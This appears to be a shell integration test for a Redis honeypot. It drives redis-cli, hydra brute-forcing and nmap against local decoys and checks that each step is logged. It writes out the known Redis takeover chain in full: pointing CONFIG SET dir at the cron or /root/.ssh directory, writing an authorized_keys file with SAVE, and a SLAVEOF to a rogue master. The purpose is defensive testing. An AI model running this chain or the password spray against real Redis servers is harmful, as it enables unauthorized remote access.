#!/usr/bin/env bash
# The redis service of a real decnet-decky against real clients: redis-cli (PING, INFO server, KEYS *,
# AUTH right and wrong, CONFIG SET dir then SAVE, SLAVEOF: each logged), hydra with a 5-password list
# (every password a credential line, byte for byte in secret_b64), nmap -sV naming Redis with the
# persona's version (on 6379 in a network namespace of its own, where nmap's redis probe is sent at
# default intensity), and garbage and overlong input on the live socket (redis's own errors, then the
# decky keeps serving).
set -euo pipefail
source "$(dirname "$0")/../lib.sh"
svc_require "redis-tools nmap hydra python3" redis-cli nmap hydra python3
svc_scratch redis-clients
svc_event_sink

# Decky "open": no-auth 6.0.16 (the RCE chain works there); decky "locked": password-protected 7.0.15.
OPEN=$(free_port)
LOCKED=$(free_port)
echo '{"redis": {"auth": "none", "version": "6.0.16"}}' > "$dir/open.json"
echo '{"redis": {"auth": "required", "version": "7.0.15", "password": "s3cret"}}' > "$dir/locked.json"
for d in open locked; do
  port=$OPEN; [ $d = locked ] && port=$LOCKED
  "$BIN" --state-dir "$dir/state" --decky "redis-$d" --services redis --ports "redis=$port" \
    --bind 127.0.0.1 --fleet-seed test --log-target "udp:127.0.0.1:$LOGPORT" \
    --settings "$dir/$d.json" > "$dir/$d.out" 2>&1 &
  pids+=($!)
done
for port in $OPEN $LOCKED; do
  for _ in $(seq 100); do
    redis-cli -p "$port" PING >/dev/null 2>&1 && break
    sleep 0.1
  done
done

settle() { sleep 0.3; }
cli() { local p=$1; shift; timeout 10 redis-cli -p "$p" "$@" 2>&1; }

# --- redis-cli on the open decky
[ "$(cli $OPEN PING)" = "PONG" ] || fail "PING: $(cli $OPEN PING)"
info=$(cli $OPEN INFO server)
grep -q '^redis_version:6.0.16' <<<"$info" || fail "INFO server: $info"
grep -q '^os:Linux .* x86_64' <<<"$info" || fail "INFO os: $info"
grep -q '^uptime_in_seconds:[0-9]' <<<"$info" || fail "INFO uptime: $info"
keys=$(cli $OPEN KEYS '*')
grep -qx 'config:app' <<<"$keys" || fail "KEYS *: $keys"
[ "$(cli $OPEN CONFIG SET dir /var/spool/cron/crontabs)" = "OK" ] || fail "CONFIG SET dir"
[ "$(cli $OPEN SAVE)" = "OK" ] || fail "SAVE"
[ "$(cli $OPEN SLAVEOF 198.51.100.23 8886)" = "OK" ] || fail "SLAVEOF"
settle
cs=$(events " redis-open redis - config_set " | tail -n 1)
[ "$(param parameter <<<"$cs")" = "dir" ] && [ "$(param value <<<"$cs")" = "/var/spool/cron/crontabs" ] \
  || fail "config_set event: $cs"
# Each redis-cli run is its own connection, so SAVE writes to the default dir: the event says which.
sv=$(events " redis-open redis - save " | tail -n 1)
[ "$(param dir <<<"$sv")" = "/var/lib/redis" ] || fail "save event: $sv"
# The decky never connects to the master it was given.
sleep 0.5
! ss -tnH state all dst 198.51.100.23 | grep -q . || fail "the decky connected to its 'master'"
rep=$(events " redis-open redis - replicaof " | tail -n 1)
[ "$(param host <<<"$rep")" = "198.51.100.23" ] && [ "$(param port <<<"$rep")" = "8886" ] || fail "replicaof: $rep"
# The whole chain on one connection: SAVE after CONFIG SET says so, with the attacker's dir.
chain=$(printf 'CONFIG SET dir /root/.ssh\nCONFIG SET dbfilename authorized_keys\nSET x "ssh-rsa AAAA"\nSAVE\n' \
  | timeout 10 redis-cli -p $OPEN 2>&1)
[ "$(tr -d '\n' <<<"$chain")" = "OKOKOKOK" ] || fail "chain: $chain"
settle
sv=$(events " redis-open redis - save " | tail -n 1)
[ "$(param dir <<<"$sv")" = "/root/.ssh" ] && [ "$(param dbfilename <<<"$sv")" = "authorized_keys" ] \
  && [ "$(param after_config_set <<<"$sv")" = "true" ] || fail "chained save: $sv"
n=$(events " redis-open redis - command " | grep -c 'command="keys"' || true)
[ "$n" -ge 1 ] || fail "KEYS not logged as a command"
echo "ok: redis-cli PING, INFO server, KEYS *, CONFIG SET dir + SAVE, SLAVEOF (logged)"

# --- redis-cli AUTH on the locked decky
out=$(cli $LOCKED GET config:app)
[ "$out" = "NOAUTH Authentication required." ] || fail "NOAUTH: $out"
out=$(cli $LOCKED -a wrong --no-auth-warning PING)
grep -q 'WRONGPASS invalid username-password pair or user is disabled.' <<<"$out" || fail "AUTH wrong: $out"
out=$(cli $LOCKED -a s3cret --no-auth-warning PING)
[ "$out" = "PONG" ] || fail "AUTH right: $out"
out=$(cli $LOCKED --user default --pass s3cret --no-auth-warning GET stats:visits)
[ "$out" = "184223" ] || fail "AUTH user pass: $out"
settle
events " redis-locked redis - auth " | grep -q 'success="true"' || fail "AUTH success not logged"
echo "ok: redis-cli AUTH wrong/right (1 and 2 arguments), NOAUTH"

# --- hydra: every password a credential line, byte for byte
printf 'admin\npassword\nt\xc3\xabst\nredis\n123456\n' > "$dir/pw.txt"
before=$(events " redis-locked redis - auth " | wc -l)
timeout 120 hydra -P "$dir/pw.txt" -s "$LOCKED" -t 2 127.0.0.1 redis > "$dir/hydra.out" 2>&1 || true
grep -q '0 valid password' "$dir/hydra.out" || fail "hydra: $(cat "$dir/hydra.out")"
settle
got=$(events " redis-locked redis - auth " | tail -n +$((before + 1)) | param secret_b64 | sort -u)
want=$(while IFS= read -r pw; do printf '%s' "$pw" | base64; done < "$dir/pw.txt" | sort -u)
[ "$got" = "$want" ] || fail "hydra secrets: got [$got] want [$want]"
echo "ok: hydra, 5 passwords incl. tëst, each in secret_b64"

# --- garbage and overlong input on the live socket
python3 - "$OPEN" <<'PY' || fail "garbage"
import os, socket, sys
port = int(sys.argv[1])
def talk(data, expect=None):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(data)
    buf = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            buf += d
            if expect is not None and len(buf) >= len(expect):
                break
    except socket.timeout:
        pass
    s.close()
    if expect is not None and buf != expect:
        sys.exit("want %r got %r" % (expect, buf[:200]))
    return buf
talk(b"*1\r\n$999999999999\r\n", b"-ERR Protocol error: invalid bulk length\r\n")
talk(b"*1\r\n+PING\r\n", b"-ERR Protocol error: expected '$', got '+'\r\n")
talk(b"A" * 100000, b"-ERR Protocol error: too big inline request\r\n")
talk(b"*2\r\n$4\r\nECHO\r\n$70000\r\n" + b"x" * 70000, b"-ERR Protocol error: invalid bulk length\r\n")
for _ in range(20):
    talk(os.urandom(3000))
talk(b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + os.urandom(64))  # a TLS ClientHello
talk(b"PING\r\n", b"+PONG\r\n")
PY
[ "$(cli $OPEN PING)" = "PONG" ] || fail "decky stopped serving after garbage"
for p in "${pids[@]:1}"; do kill -0 "$p" || fail "a decky died"; done
echo "ok: garbage and overlong input answered as redis does, decky still serving"

# --- nmap -sV: on 6379, in a namespace of our own (root), else at full intensity on loopback
if [ "$(id -u)" -eq 0 ] && ip netns add "redis-nmap-$$" 2>/dev/null; then
  ns="redis-nmap-$$"
  ip -n "$ns" link set lo up
  ip netns exec "$ns" "$BIN" --state-dir "$dir/state" --decky redis-nmap --services redis \
    --ports redis=6379 --bind 127.0.0.1 --fleet-seed test --log-target stdout \
    --settings "$dir/open.json" > "$dir/nmap-decky.out" 2>&1 &
  pids+=($!)
  for _ in $(seq 100); do ip netns exec "$ns" redis-cli PING >/dev/null 2>&1 && break; sleep 0.1; done
  scan=$(ip netns exec "$ns" nmap -sV -Pn -p 6379 127.0.0.1 2>&1)
else
  scan=$(nmap -sV --version-all -Pn -p "$OPEN" 127.0.0.1 2>&1)
fi
grep -Eq '/tcp +open +redis +Redis key-value store 6\.0\.16' <<<"$scan" || fail "nmap: $scan"
echo "ok: nmap -sV: $(grep -E '/tcp +open' <<<"$scan")"
! grep -aiq 'decnet\|decky\|honeypot' <<<"$info$keys$scan" || fail "the wire names the honeypot"
echo PASS
